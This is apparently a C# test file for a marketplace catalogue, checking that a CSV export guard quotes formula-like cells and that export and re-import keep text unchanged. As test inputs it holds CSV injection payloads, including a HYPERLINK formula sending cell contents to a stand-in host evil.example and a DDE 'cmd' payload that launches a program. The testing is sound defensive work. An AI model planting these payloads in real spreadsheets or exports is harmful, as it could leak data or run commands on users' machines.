using System.Net;
using System.Net.Http.Json;
using System.Text.Json;
using CraftMarket.Catalogue.Tests.Support;
using CraftMarket.SharedKernel.Text;

namespace CraftMarket.Catalogue.Tests.Api;

/// <summary>CSV injection: staff open the export in a spreadsheet, which runs cells that look like formulas.</summary>
[Collection(SharedSite.Name)]
public sealed class CsvFormulaTests(SqliteCatalogueApp app)
{
    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example\",\"x\")")]
    [InlineData("+SUM(1,2)")]
    [InlineData("-20% sale")]
    [InlineData("@cmd")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    [InlineData("'=already quoted by hand")]
    [InlineData("'a quote of its own")]
    public void Every_trigger_character_goes_out_quoted_and_comes_back_as_it_was(string text)
    {
        var cell = CsvFormulaGuard.Neutralise(text);
        cell.ShouldStartWith("'");
        cell[1..].ShouldBe(text);
        CsvFormulaGuard.Restore(cell).ShouldBe(text);
    }

    [Theory]
    [InlineData("Bình hoa men rạn")]
    [InlineData("")]
    [InlineData("20% off - today")]
    public void Other_text_is_left_alone(string text)
    {
        CsvFormulaGuard.Neutralise(text).ShouldBe(text);
        CsvFormulaGuard.Restore(text).ShouldBe(text);
    }

    [Fact]
    public void A_hand_made_file_keeps_a_quote_that_protects_nothing() => CsvFormulaGuard.Restore("'twas").ShouldBe("'twas");

    [Fact]
    public async Task Exported_names_descriptions_and_member_names_never_start_a_formula_and_the_round_trip_keeps_them()
    {
        const string slug = "dong-ky";
        var admin = await app.Admin(slug);
        var maker = "=HYPERLINK(\"http://evil.example/\"&A1,\"Hộ\") " + Guid.NewGuid().ToString("N")[..6];
        var invited = await admin.PostAsJsonAsync("/api/members", Household(maker));
        invited.StatusCode.ShouldBe(HttpStatusCode.Created, await invited.Body());
        var memberId = (await invited.Json()).GetProperty("id").GetGuid();
        (await admin.Post($"/api/members/{memberId}/activate")).IsSuccessStatusCode.ShouldBeTrue();

        var sku = Requests.UniqueSku("INJ");
        var texts = new Dictionary<string, string>
        {
            ["name_vi"] = "=1+2 bình", ["name_en"] = "+SUM(A1:A9) vase", ["name_fr"] = "-20% sale", ["name_ja"] = "@SUM(1)",
            ["description_vi"] = "=cmd|' /C calc'!A0", ["description_en"] = "-2+3 piece", ["material_vi"] = "@gốm", ["technique_vi"] = "+men",
            ["packaging"] = "=thùng", ["colours"] = "-ivory|blue",
        };
        string[] header = ["sku", "category", .. texts.Keys, "base_price_vnd", "makers"];
        var row = new Dictionary<string, string>(texts) { ["sku"] = sku, ["category"] = await FirstCategory(slug), ["base_price_vnd"] = "100000", ["makers"] = memberId.ToString() };
        var created = await CsvFile.Upload(admin, new CsvFile([.. header], [row]).ToText());
        created.StatusCode.ShouldBe(HttpStatusCode.OK, await created.Body());

        var exported = await (await admin.GetAsync("/api/catalogue/export.csv")).Content.ReadAsStringAsync();
        var file = CsvFile.Parse(exported);
        var cells = file.Row(sku);
        foreach (var (column, text) in texts) cells[column].ShouldBe("'" + text, $"{column} is neutralised");
        cells["maker_names"].ShouldBe("'" + maker);
        foreach (var r in file.Rows)
            foreach (var value in r.Values)
                value.ShouldNotMatch(@"^[=+\-@\t\r]", "no cell of the export starts a formula");

        var again = await CsvFile.Upload(admin, exported);
        again.StatusCode.ShouldBe(HttpStatusCode.OK, await again.Body());
        var summary = await again.Json();
        summary.GetProperty("updated").GetInt32().ShouldBe(0, "importing the export changes nothing");
        summary.GetProperty("created").GetInt32().ShouldBe(0);
        var after = CsvFile.Parse(await (await admin.GetAsync("/api/catalogue/export.csv")).Content.ReadAsStringAsync()).Row(sku);
        foreach (var column in texts.Keys) after[column].ShouldBe(cells[column], "the round trip keeps the text");
        var stored = await admin.GetFromJsonAsync<JsonElement>($"/api/catalogue/products/{cells["id"]}");
        stored.GetProperty("name").GetProperty("fr").GetString().ShouldBe("-20% sale");
        stored.GetProperty("name").GetProperty("vi").GetString().ShouldBe("=1+2 bình");
    }

    private async Task<string> FirstCategory(string slug)
    {
        var categories = await app.ClientFor(slug).GetFromJsonAsync<JsonElement>("/api/catalogue/public/categories");
        return categories[0].GetProperty("id").GetGuid().ToString();
    }

    private static object Household(string name) => new
    {
        kind = "Household", displayName = name, representativeName = "Nguyễn Văn Thử", phone = $"091{Random.Shared.Next(1_000_000, 9_999_999)}",
        commune = "Đồng Kỵ, Từ Sơn, Bắc Ninh", crafts = new[] { "gỗ" }, languages = new[] { "vi" }, canSignContracts = false,
    };
}
